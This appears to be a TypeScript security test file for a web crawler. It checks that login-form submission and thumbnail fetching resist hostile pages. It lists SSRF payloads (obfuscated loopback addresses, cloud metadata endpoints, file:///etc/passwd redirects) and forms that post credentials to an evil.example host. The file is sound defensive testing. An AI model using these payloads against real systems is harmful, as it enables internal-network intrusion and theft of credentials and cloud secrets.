import { AddressGuard } from "#crawler/fetch/guard/address-guard.ts"
import { CredentialSession } from "#crawler/fetch/session.ts"
import { logInByForm } from "#crawler/fetch/login/log-in.ts"
import { redirect } from "#crawler/testing/test-site.ts"
import { toPageUrl } from "#engine"
import { type Arena, type Attack, type Kind, unless } from "./attack.ts"

const PASSWORD = "correct-horse-battery"
const formTo = (action: string, more = ""): string =>
  `<form method="post" action="${action}"><input name="user"><input name="password" type="password"><button ${more}>Go</button></form>`

type Site = (inner: string) => Parameters<Arena["evil"]["serve"]>[0]

/** The ways in which a login page, or the answer to its form, tries to send the submitted data elsewhere. */
const LOGINS: Readonly<Record<string, Site>> = {
  "a form that posts to a private address": (inner) => ({ "/login": formTo(`${inner}/take`) }),
  "a form whose base is elsewhere": (inner) => ({ "/login": `<base href="${inner}/">${formTo("take")}` }),
  "a button that posts elsewhere": (inner) => ({ "/login": formTo("/in", `formaction="${inner}/take"`) }),
  "a form that posts to a name of the same site and another port": (inner) => ({
    "/login": formTo(`http://evil.example:${new URL(inner).port}/take`),
  }),
  "a form that posts to a file": () => ({ "/login": formTo("file:///tmp/fossick-escaped") }),
  "a form that runs a script": () => ({ "/login": formTo("javascript:evil()") }),
  "a form that writes into the address": () => ({
    "/login": formTo("/in").replace(`method="post"`, `method="get"`),
  }),
  "a form page on another site": (inner) => ({ "/login": redirect(`${inner}/login`) }),
  ...Object.fromEntries(
    [301, 302, 303, 307, 308].map((code): [string, Site] => [
      `a redirect to a private address with ${code}`,
      (inner) => ({ "/login": formTo("/in"), "/in": redirect(`${inner}/take`, code) }),
    ]),
  ),
  "a redirect to a file": () => ({
    "/login": formTo("/in"),
    "/in": redirect("file:///etc/passwd"),
  }),
  "endless redirects": () => ({ "/login": formTo("/in"), "/in": redirect("/in", 307) }),
}

const logins: readonly Attack[] = Object.entries(LOGINS).map(([name, site], at) => ({
  name,
  play: async (arena: Arena) => {
    const { evil, inner, internet } = arena
    const asked = evil.requests.length
    evil.serve({ "/in": "<p>Welcome.</p>", ...site(inner.origin) })
    const login = {
      kind: "form" as const,
      url: arena.at("/login"),
      fields: { user: "ada", password: PASSWORD },
      proof: null,
    }
    await using guard = new AddressGuard({
      allowed: [],
      resolve: internet.resolve,
      connections: 2,
      connectTimeoutMs: 5000,
    })
    const loggedIn = await logInByForm(login, {
      session: new CredentialSession(login, [login.url], {}),
      guard,
      userAgent: "test",
      env: {},
      timeoutMs: 20_000,
      maxRedirects: 5,
    }).then(
      () => true,
      (error: Error) => (error.message.includes(PASSWORD) ? "the password was sent" : false),
    )
    const hops = evil.requests.length - asked
    // A button's own address isn't followed, but the form's is: this login belongs to the site, and shows that the
    // other requests would arrive if they were made.
    return unless(
      loggedIn === (at === BUTTON) && hops < 10,
      () => `logged in: ${String(loggedIn)}, ${hops} requests`,
    )
  },
}))
const BUTTON = Object.keys(LOGINS).indexOf("a button that posts elsewhere")

/** Addresses of images named by a page in the index, as fetched by the thumbnail worker. */
const IMAGES: readonly string[] = [
  "http://127.0.0.1:PORT/a.png",
  "http://localhost:PORT/a.png",
  "http://[::1]:PORT/a.png",
  "http://0x7f.1:PORT/a.png",
  "http://2130706433:PORT/a.png",
  "http://[::ffff:7f00:1]:PORT/a.png",
  "http://169.254.169.254/latest/meta-data/a.png",
  "http://metadata.google.internal/a.png",
  "http://evil.example@127.0.0.1:PORT/a.png",
  "REDIRECT http://127.0.0.1:PORT/a.png",
  "REDIRECT http://[::1]:PORT/a.png",
  "REDIRECT file:///etc/passwd",
]
const images: readonly Attack[] = IMAGES.map((written, at) => ({
  name: written,
  play: async (arena: Arena) => {
    const { evil, inner, reader } = arena
    const address = written.replace("PORT", inner.authority.split(":")[1]!)
    const path = `/image${at}.png`
    const isMoved = address.startsWith("REDIRECT ")
    if (isMoved) evil.serve({ [path]: redirect(address.slice("REDIRECT ".length)) })
    const url = toPageUrl(isMoved ? arena.at(path) : address)
    if (url === null) return null
    const { kind } = await reader.fetch(url, {
      accepts: () => true,
      accept: "image/*",
      maxBytes: 1_000_000,
      onRedirect: (to) => reader.disallowed(to),
      signal: AbortSignal.timeout(20_000),
    })
    return unless(kind !== "fetched", () => `the result was ${kind}`)
  },
}))

export const LOGINS_AND_IMAGES: readonly Kind[] = [
  { kind: "login forms", must: "nothing is sent to another site", attacks: logins },
  { kind: "image addresses", must: "refused", attacks: images },
]
